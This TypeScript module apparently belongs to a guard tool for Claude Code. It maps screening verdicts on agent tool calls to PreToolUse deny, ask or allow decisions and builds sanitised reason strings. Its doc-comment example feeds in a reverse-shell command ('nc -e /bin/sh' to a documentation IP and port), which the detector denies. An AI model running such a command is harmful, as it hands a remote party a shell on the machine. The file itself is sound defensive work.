// Why: every screened Claude Code tool call (Bash, a file write, a WebFetch) ends as one PreToolUse
// decision. Threat it stops: two tools answering the same finding differently (a deny for Bash, an
// ask for Write), or a reason the agent cannot act on. Verdicts map to decisions in this one place:
// deny → deny, warn → ask, allow → no opinion (or allow with --hook-allow). The reason names the
// call, each finding's rule and what it matched, with agent-controlled text made safe to show.
import type { CheckResult, Finding, Verdict } from '../detect/check.js';
import { safeValue } from '../detect/engine/output.js';

export type PermissionDecision = 'allow' | 'ask' | 'deny';
export interface HookAnswer { decision: PermissionDecision | null; reason: string }

/** One screened piece of a call: `label` says which (e.g. "content", "edits[1].new_string"). */
export interface ScreenPart { label?: string; result: CheckResult }

const RANK: Record<Verdict, number> = { allow: 0, warn: 1, deny: 2 };
const SEV: Record<Finding['severity'], number> = { low: 1, medium: 2, high: 3, critical: 4 };
const MAX_REASON = 1000;

/** Agent-controlled text (a path, a URL) made safe and short for a reason string. */
export function shown(s: string): string {
  return safeValue(s);
}

/**
 * The PreToolUse answer for a call screened in parts. `subject` names the call in the reason
 * ("Write /home/a/.bashrc"); a Bash call has none, its findings carry the command.
 *
 * @example hookDecision([{ result: checker.check('nc -e /bin/sh 203.0.113.5 4444') }], { allowClean: false })
 *   // → { decision: 'deny', reason: 'corral deny: … [cmd_…: …]' }
 */
export function hookDecision(parts: ScreenPart[], o: { subject?: string; allowClean: boolean }): HookAnswer {
  let verdict: Verdict = 'allow';
  for (const p of parts) if (RANK[p.result.verdict] > RANK[verdict]) verdict = p.result.verdict;
  const about = o.subject === undefined ? '' : ` (${o.subject})`;
  if (verdict === 'allow') return { decision: o.allowClean ? 'allow' : null, reason: `corral: no findings${about}` };
  const all = parts.flatMap((p) => p.result.findings.map((f) => ({ label: p.label, f })));
  const notLow = all.filter((x) => x.f.severity !== 'low');
  // Most severe first; equal severities keep their order (the path before the content).
  const top = (notLow.length > 0 ? notLow : all).map((x, i) => ({ ...x, i }))
    .sort((a, b) => SEV[b.f.severity] - SEV[a.f.severity] || a.i - b.i).slice(0, 3);
  const items = top.map(({ label, f }) => `${label === undefined ? '' : `${label}: `}${f.reason} [${f.rule}: ${f.message}]`);
  const reason = `corral ${verdict}${about}: ${items.join(' ')}`;
  return { decision: verdict === 'deny' ? 'deny' : 'ask', reason: reason.length > MAX_REASON ? `${reason.slice(0, MAX_REASON - 3)}…` : reason };
}
